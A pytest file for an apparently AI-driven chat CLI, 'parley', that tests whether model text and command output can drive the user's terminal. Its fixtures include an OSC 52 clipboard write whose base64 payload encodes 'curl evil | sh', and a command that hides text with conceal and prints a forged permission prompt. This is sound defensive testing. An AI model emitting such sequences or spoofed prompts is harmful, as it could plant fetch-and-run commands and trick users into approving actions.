"""Nothing a child or a model writes can drive the user's terminal (issue 36, item 5).

What `parley chat` prints passes one sanitiser (`parley.terminal_text`): printable text,
`\\n`, `\\t` and SGR colours and emphasis, nothing else; every block leaves the terminal's
attributes as it found them; the permission question starts on a fresh line after a reset,
marked by an attribute no output may set. Properties (any text, cut anywhere), the nastiest
cases as a table, and `parley chat` itself on a real pty.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import server_env
from parley.config import SandboxSettings
from parley.fakellm import FakeLLM, Reply, ScriptedToolCall
from parley.sandbox import sandbox_status
from test_cli import QUESTION_END, _take_terminal, read_until

_here = sandbox_status(SandboxSettings())
needs_sandbox = pytest.mark.skipif(
    not _here.sandboxed, reason=f"commands cannot run sandboxed here: {_here.reason}"
)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: sets the clipboard
QUESTION_BADGE = "\x1b[1;7m ? \x1b[0m "  # reverse video: no output may set it
FAKE_QUESTION = "Parley asks to run `ls`:\nAllow it? [y] once  [n/Enter] no: "


# --- parley chat on a real terminal ----------------------------------------------------------


def chat_on_pty(slave: int, env: dict[str, str], workspace: Path) -> subprocess.Popen[bytes]:
    """`parley chat` with the pty as its controlling terminal, stdin, stdout and stderr (a
    user's shell), colours on (no NO_COLOR)."""
    environment = {**os.environ, **env, "TERM": "xterm-256color"}
    environment.pop("NO_COLOR", None)
    return subprocess.Popen(
        [sys.executable, "-m", "parley", "chat", "Tidy up.", "--cwd", str(workspace)],
        env=environment,
        stdin=slave,
        stdout=slave,
        stderr=slave,
        start_new_session=True,
        preexec_fn=lambda: _take_terminal(slave),
        pass_fds=(slave,),
    )


@needs_sandbox
def test_on_a_real_terminal_neither_the_model_nor_a_command_drives_it(
    fake: FakeLLM, tmp_path: Path, workspace: Path
) -> None:
    """The model's text carries an OSC 52 (a clipboard write); the command it runs turns on
    conceal (SGR 8) and prints a fake question. The pty gets neither the OSC nor the
    conceal; the fake question is in the output's gutter; the real question after it comes
    after a reset, marked, and visible."""
    # Every character as an octal escape: the question about the printf shows no fake.
    fake_output = "".join(f"\\{ord(ch):03o}" for ch in f"\x1b[8m\n{FAKE_QUESTION}")
    printf = ScriptedToolCall("run_command", {"command": f"printf '{fake_output}'"})
    fake.set_script(
        [
            Reply(text=f"Copying {CLIPBOARD}now.", tool_calls=(printf,)),
            Reply(tool_calls=(ScriptedToolCall("run_command", {"command": "echo REAL"}),)),
            Reply(text="Left it."),
        ]
    )
    master, slave = os.openpty()
    try:
        chat = chat_on_pty(slave, server_env(fake, tmp_path), workspace)
        first = read_until(master, QUESTION_END)
        os.write(master, b"y")  # run the printf
        second = read_until(master, b"`echo REAL`")
        second += read_until(master, QUESTION_END) if QUESTION_END not in second else b""
        os.write(master, b"n")  # the real question, answered no
        chat.wait(timeout=60)
        rest = read_until(master, b"session", timeout=5)
    finally:
        if chat.poll() is None:
            chat.kill()
        os.close(slave)
        os.close(master)
    seen = (first + second + rest).decode(errors="replace")
    assert chat.returncode == 0, seen
    assert "\x1b]" not in seen and "52;c;" not in seen  # no OSC, not even its text
    assert "Copying now." in seen
    assert "\x1b[8m" not in seen and ";8m" not in seen and "\x1b[8;" not in seen
    real = seen.index("Parley asks to run `echo REAL`:")
    fake_at = seen.index("│ Parley asks to run `ls`:")  # the fake: in the output's gutter
    assert "\x1b[0m" in seen[fake_at:real]  # a reset between the fake and the real one
    line_start = seen.rindex("\n", 0, real) + 1
    assert seen[line_start:real] == QUESTION_BADGE  # at a line's start, behind its badge
    assert QUESTION_BADGE + "Allow it? [y] once" in seen[real:]
    assert "rejected" in json.dumps(fake.requests[-1].body)
